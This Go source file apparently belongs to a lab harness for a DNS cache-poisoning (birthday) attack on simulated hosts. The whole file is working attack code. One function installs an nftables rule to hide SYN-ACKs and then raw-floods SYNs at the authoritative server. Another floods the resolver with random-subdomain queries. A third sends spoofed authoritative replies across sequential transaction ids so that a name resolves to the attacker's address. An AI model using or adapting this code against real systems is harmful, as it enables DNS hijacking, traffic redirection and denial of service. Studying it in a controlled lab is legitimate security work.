package birthday

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"os/exec"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// hiding keeps n1's answers to a flood from the kernel of the host that sends it. The kernel
// would refuse them, which would end what was begun: whoever floods by hand sees to that first.
const hiding = `
table inet attacker {
	chain input {
		type filter hook input priority raw
		ip saddr %s tcp sport %d tcp flags & (syn | ack) == syn | ack drop
	}
}
`

// FloodSYN begins connections to n1's port 53 at a rate, and completes none, until ctx ends. Their
// source is the host's own address.
func FloodSYN(ctx context.Context, from *Host, perSecond int) error {
	err := from.Do(func() error {
		load := exec.Command("nft", "-f", "-")
		load.Stdin = strings.NewReader(fmt.Sprintf(hiding, N1, dnsPort))
		if out, err := load.CombinedOutput(); err != nil {
			return fmt.Errorf("hide the answers: %w: %s", err, out)
		}
		return nil
	})
	if err != nil {
		return err
	}
	raw, err := openRaw(from)
	if err != nil {
		return err
	}
	defer unix.Close(raw)
	port := uint16(1024)
	return pace(ctx, perSecond, func() error {
		if port++; port < 1024 {
			port = 1024
		}
		return bearable(send(raw, N1, syn(netip.AddrPortFrom(from.Addr, port), netip.AddrPortFrom(N1, dnsPort), rand.Uint32())))
	})
}

// every is how often the resolver is asked for WWW among names that do not exist.
const every = 20

// FloodQueries asks n2 at a rate until ctx ends: for new names of the zone, each of which it has
// to ask n1 for, and among them for WWW.
func FloodQueries(ctx context.Context, from *Host, perSecond int) error {
	var conn net.Conn
	err := from.Do(func() (err error) {
		conn, err = net.Dial("udp4", netip.AddrPortFrom(N2, dnsPort).String())
		return err
	})
	if err != nil {
		return err
	}
	defer conn.Close()
	asked := 0
	return pace(ctx, perSecond, func() error {
		name := WWW
		if asked++; asked%every != 0 {
			name = fmt.Sprintf("r%d.%s", rand.Uint32(), Zone)
		}
		query := dnsmessage.Message{Header: dnsmessage.Header{ID: uint16(rand.Uint32()), RecursionDesired: true}, Questions: []dnsmessage.Question{question(name)}}
		packed, err := query.Pack()
		if err != nil {
			return err
		}
		_, err = conn.Write(packed)
		return bearable(err)
	})
}

// FloodReplies sends replies to n2 at a rate until ctx ends, in the name of n1, which say that
// WWW has the attacker's address: with one id after the other, because the right one is not known.
func FloodReplies(ctx context.Context, from *Host, perSecond int) error {
	www := question(WWW)
	reply := dnsmessage.Message{Header: dnsmessage.Header{Response: true, Authoritative: true},
		Questions: []dnsmessage.Question{www}, Answers: []dnsmessage.Resource{address4(www.Name, FalseWWW)}}
	payload, err := reply.Pack()
	if err != nil {
		return err
	}
	packet := datagram(netip.AddrPortFrom(N1, dnsPort), netip.AddrPortFrom(N2, QueryPort), payload)
	raw, err := openRaw(from)
	if err != nil {
		return err
	}
	defer unix.Close(raw)
	var id uint16
	return pace(ctx, perSecond, func() error {
		id++
		binary.BigEndian.PutUint16(packet[ipHeader+udpHeader:], id)
		return bearable(send(raw, N2, packet))
	})
}

func question(name string) dnsmessage.Question {
	return dnsmessage.Question{Name: dnsmessage.MustNewName(name), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}
}

// pace calls f at a rate until ctx ends, as evenly as a timer of a millisecond allows. What could
// not be sent in time is not made up for.
func pace(ctx context.Context, perSecond int, f func() error) error {
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	last, due := time.Now(), 0.
	for {
		select {
		case <-ctx.Done():
			return nil
		case <-tick.C:
		}
		now := time.Now()
		due = min(due+now.Sub(last).Seconds()*float64(perSecond), max(float64(perSecond)/50, 1))
		for last = now; due >= 1; due-- {
			if err := f(); err != nil {
				return err
			}
		}
	}
}

// bearable lets pass what the attacker goes on after: the firewall of its own host does not
// let a packet out, or nobody listens.
func bearable(err error) error {
	if errors.Is(err, unix.EPERM) || errors.Is(err, unix.ECONNREFUSED) || errors.Is(err, unix.ENOBUFS) {
		return nil
	}
	return err
}
